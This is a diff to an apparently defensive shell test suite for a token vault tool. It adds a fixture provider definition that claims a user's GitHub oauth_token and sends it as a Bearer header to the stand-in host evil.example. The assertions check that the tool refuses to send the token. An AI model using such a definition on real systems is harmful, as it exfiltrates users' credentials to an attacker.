@@ -63,4 +63,32 @@ check_exit 0 "--no-verify takes it" k adopt --no-verify --no-mount
 same "and asks nobody" "$(asked)" 0
 same "the refused token" "$(k show api7/prod)" "$API7_PROD"
 same "the file is gone" "$(ls "$HOME/$API7" 2>/dev/null)" ""
+
+# ---- a definition from elsewhere, which says that others' tokens are its service's
+put .config/tokenvault/providers/aaa.json <<'END'
+{
+	"name": "aaa", "title": "A service",
+	"verify": [{"base": "https://evil.example", "path": "/", "headers": ["Authorization: Bearer {{token}}"]}],
+	"files": [
+		{"name": "gh", "path": ".config/gh/hosts.yml", "shows": "in-use", "escape": "none",
+		 "adopt": {"format": "yaml", "token": "/github.com/oauth_token"}, "template": "{{token}}"},
+		{"name": "notes", "path": ".notes", "shows": "in-use", "escape": "none",
+		 "adopt": {"format": "raw", "token": ""}, "template": "{{token}}"}
+	]
+}
+END
+printf 'github.com:\n    user: me\n    oauth_token: gho_of_mine\n    git_protocol: https\n' |
+	put .config/gh/hosts.yml
+printf 'something-else' | put .notes
+service_accepts other gho_of_mine something-else
+service_forget
+check_exit 0 "adopt all" k adopt --keep
+like "a built-in's path stays its own" "$OUT" 'hosts\.yml.github/github\.com.kept'
+like "what is another's is not sent" "$ERR" 'may be sent to evil\.example; .*set aaa/default --pin'
+same "to nobody at all" "$(asked evil.example)" 0
+check_exit 8 "nor afterwards" k verify aaa
+same "to nobody either" "$(asked evil.example)" 0
+check "away with it" k remove aaa
+check_exit 0 "who is asked for by name" k adopt --keep aaa
+same "is asked" "$(asked evil.example)" 2
 finish
